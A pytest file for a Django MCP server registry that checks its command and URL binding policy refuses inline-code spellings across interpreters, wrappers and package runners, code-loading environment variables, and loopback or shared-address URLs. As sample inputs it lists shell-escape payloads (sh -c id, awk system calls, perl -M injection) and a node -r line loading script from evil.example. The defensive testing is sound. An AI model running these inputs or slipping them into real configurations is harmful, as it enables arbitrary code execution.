"""The binding policy's gaps a review found: inline code through combined options, other interpreters, wrappers and
runners; environment variables that load code or swap the program; a stored binding used after the policy (or its
setting) changed; a malformed international name; the shared address space."""

from __future__ import annotations

import io
import json
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command

from agent_platform.errors import ApplicationError
from mcpregistry.binding_policy import command_problem, url_problem
from mcpregistry.models import McpServer
from mcpregistry.services import mcp_server_create, mcp_server_discover

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "command,args",
    [
        ("python3", ["-Ic", "1"]),
        ("python3", ["-Sc", "1"]),
        ("python3", ["-uc", "1"]),
        ("pypy3", ["-c", "1"]),
        ("python3", ["-m", "timeit", "__import__('os').system('id')"]),
        ("node", ["-e1"]),
        ("node", ["-pe", "1"]),
        ("node", ["-p1"]),
        ("node", ["--print=1"]),
        ("node", ["--import", "data:text/javascript,1", "s.js"]),
        ("node", ["--require=data:text/javascript,1", "s.js"]),
        ("node", ["-r", "https://evil.example/x.js", "s.js"]),
        ("perl", ["-e1"]),
        ("perl", ["-we", "1"]),
        ("perl", ["-ne", "1"]),
        ("perl", ["-0777e", "1"]),
        ("perl", ["-Mstrict;system(q(id))", "x.pl"]),
        ("perl5.36.0", ["-e", "1"]),
        ("ruby", ["-e1"]),
        ("ruby", ["-we", "1"]),
        ("php", ["-r1"]),
        ("lua", ["-e1"]),
        ("rbash", ["-c", "id"]),
        ("bash", ["-o", "posix", "-c", "id"]),
        ("R", ["-e", "1"]),
        ("expect", ["-c", "1"]),
        ("awk", ['BEGIN{system("id")}']),
        ("mawk", ["-v", "x=1", 'BEGIN{system("id")}']),
        ("gawk", ["-f", "x.awk", "-e", 'BEGIN{system("id")}']),
        ("env", ["-S", "sh -c id"]),
        ("env", ["--split-string=sh -c id"]),
        ("env", ["-C", "/tmp", "sh", "-c", "id"]),
        ("env", ["-u", "PATH", "sh", "-c", "id"]),
        ("timeout", ["10", "sh", "-c", "id"]),
        ("nice", ["-n", "5", "bash", "-c", "id"]),
        ("setsid", ["sh", "-c", "id"]),
        ("stdbuf", ["-o0", "sh", "-c", "id"]),
        ("xargs", ["-0", "sh", "-c", "id"]),
        ("sudo", ["-u", "nobody", "sh", "-c", "id"]),
        ("strace", ["-o", "/dev/null", "sh", "-c", "id"]),
        ("flock", ["/tmp/x", "-c", "id"]),
        ("script", ["-qc", "id", "/dev/null"]),
        ("su", ["-c", "id"]),
        ("watch", ["id"]),
        ("busybox", ["sh", "-c", "id"]),
        ("npx", ["-c", "id"]),
        ("npx", ["--call", "id"]),
        ("npm", ["exec", "-c", "id"]),
        ("uvx", ["--from", "x", "python", "-c", "1"]),
        ("uv", ["run", "python", "-c", "1"]),
        ("pipx", ["run", "python", "-c", "1"]),
        ("npx", ["-y", "node", "-e", "1"]),
        ("npx", ["-p", "pkg", "-c", "id"]),  # -p takes a value: the -c after it is still npx's
        ("npx", ["-y", "tsx", "-e", "1"]),
        ("npx", ["-y", "ts-node", "-e", "1"]),
        ("uv", ["tool", "run", "python", "-c", "1"]),
        ("python3", ["-m", "cProfile", "-m", "timeit", "import os"]),
        ("python3", ["-m", "cProfile", "-o", "out", "-m", "timeit", "import os"]),
        ("python3", ["-m", "idlelib", "-c", "1"]),
    ],
)
def test_inline_code_is_refused_in_every_spelling(command: str, args: list[str]) -> None:
    assert "inline code" in (command_problem(command, args, []) or ""), (command, args)


@pytest.mark.parametrize(
    "command,args",
    [
        (sys.executable, ["-m", "mcpregistry.demo_server"]),
        ("python3", ["-m", "server", "-c", "config.yaml"]),
        ("python3", ["-u", "-W", "ignore", "server.py"]),
        ("node", ["build/index.js", "-p", "3000"]),
        ("node", ["-r", "./tracing.js", "server.js"]),
        ("bash", ["./run-server.sh", "-c", "config"]),
        ("uvx", ["mcp-server-time", "--local-timezone", "Asia/Seoul"]),
        ("npx", ["-y", "@modelcontextprotocol/server-everything"]),
        ("env", ["FAILURE_MODE=none", "node", "server.js"]),
        ("timeout", ["600", "python3", "-m", "server"]),
        ("perl", ["-Mstrict", "-w", "server.pl"]),
        ("awk", ["-f", "prog.awk"]),
        # What follows the package a runner runs is the package's own (they were refused as programs of their own).
        ("npx", ["-y", "@modelcontextprotocol/server-filesystem", "/srv/watch"]),
        ("npx", ["-y", "@modelcontextprotocol/server-filesystem", "/data/awk", "/data/other"]),
        ("npx", ["-y", "mcp-server-kubernetes", "-c", "/etc/kube.yaml"]),
        ("npx", ["-y", "@company/mcp-server", "-vc", "cfg.json"]),
        ("uvx", ["mcp-server-git", "--repository", "/srv/repos/eval"]),
        ("uvx", ["some-mcp", "watch"]),
        ("uv", ["run", "server.py"]),
    ],
)
def test_programs_scripts_and_runners_of_packages_are_still_accepted(command: str, args: list[str]) -> None:
    assert command_problem(command, args, []) is None


def test_import_config_refuses_a_shell_behind_env_S_or_timeout_and_nothing_runs(tmp_path: Path) -> None:
    marks = {name: tmp_path / name for name in ("env_S", "timeout")}
    document = {
        "servers": [
            {
                "mcp_id": "envs",
                "transport": "stdio",
                "command": "env",
                "args": ["-S", f"sh -c 'echo ran > {marks['env_S']}'"],
            },
            {
                "mcp_id": "tmo",
                "transport": "stdio",
                "command": "timeout",
                "args": ["10", "sh", "-c", f"echo ran > {marks['timeout']}"],
            },
        ]
    }
    path = tmp_path / "c.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    with pytest.raises((CommandError, ApplicationError), match="inline code"):
        call_command("import_config", str(path), stdout=io.StringIO(), stderr=io.StringIO())
    assert not McpServer.objects.filter(mcp_id__in=["envs", "tmo"]).exists()
    assert not any(mark.exists() for mark in marks.values())


@pytest.mark.parametrize("name", ["BASH_ENV", "NODE_OPTIONS", "PERL5OPT", "PATH", "LD_PRELOAD", "PYTHONPATH", "ENV"])
def test_a_variable_that_loads_code_or_swaps_the_program_is_refused_by_name(name: str) -> None:
    def binding(env: dict[str, str]) -> McpServer:
        return McpServer(mcp_id="b", name="b", transport="stdio", command=sys.executable, args=["s.py"], env=env)

    with pytest.raises(ValidationError) as refused:
        binding({name: "x", "FAILURE_MODE": "none"}).full_clean()
    assert [m for m in refused.value.message_dict["env"] if name in m], refused.value.message_dict
    binding({"FAILURE_MODE": "none", "PYTHONUNBUFFERED": "1"}).full_clean()


def test_a_stored_binding_s_path_does_not_pick_another_program(tmp_path: Path) -> None:
    evil = tmp_path / "evil"
    evil.mkdir()
    mark = tmp_path / "ran"
    fake = evil / "python3"
    fake.write_text(f"#!/bin/sh\necho ran > {mark}\n", encoding="utf-8")
    fake.chmod(0o755)
    server = McpServer.objects.create(  # stored around clean: a dump restored, a row written with .update()
        mcp_id="pathov", name="p", command="python3", args=["-m", "mcpregistry.demo_server"], env={"PATH": str(evil)}
    )
    report = mcp_server_discover(server=server, actor="t", via="t")
    assert not report.ok and "PATH" in (report.error or ""), report.error
    assert not mark.exists()


class _Recorder(BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_POST(self) -> None:
        self.seen.append(self.path)
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST

    def log_message(self, *args: Any) -> None:
        pass


def test_a_url_allowed_when_saved_is_not_reached_once_the_operator_withdraws_it(settings: Any) -> None:
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        settings.PLATFORM_MCP_ALLOW_PRIVATE_URLS = ["127.0.0.1"]
        url = f"http://127.0.0.1:{httpd.server_address[1]}/mcp"
        data = {"mcp_id": "loop", "name": "l", "transport": "streamable_http", "command": "", "url": url}
        mcp_server_create(actor="t", via="t", data=data)
        settings.PLATFORM_MCP_ALLOW_PRIVATE_URLS = []
        report = mcp_server_discover(server=McpServer.objects.get(mcp_id="loop"), actor="t", via="t")
        assert not report.ok and "loopback" in (report.error or ""), report.error
        assert _Recorder.seen == []
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_a_malformed_international_name_is_no_url_not_a_crash(tmp_path: Path) -> None:
    assert url_problem("http://xn--localhost-/mcp", []) == "Enter an http:// or https:// URL."
    path = tmp_path / "c.json"
    path.write_text(
        json.dumps({"servers": [{"mcp_id": "idna", "transport": "sse", "url": "http://xn--localhost-/sse"}]})
    )
    with pytest.raises((CommandError, ApplicationError), match="http:// or https://"):
        call_command("import_config", str(path), stdout=io.StringIO(), stderr=io.StringIO())


@pytest.mark.parametrize("url", ["http://100.64.0.1/", "http://100.127.255.254:8080/mcp"])
def test_the_shared_address_space_is_refused(url: str) -> None:
    assert url_problem(url, []) is not None
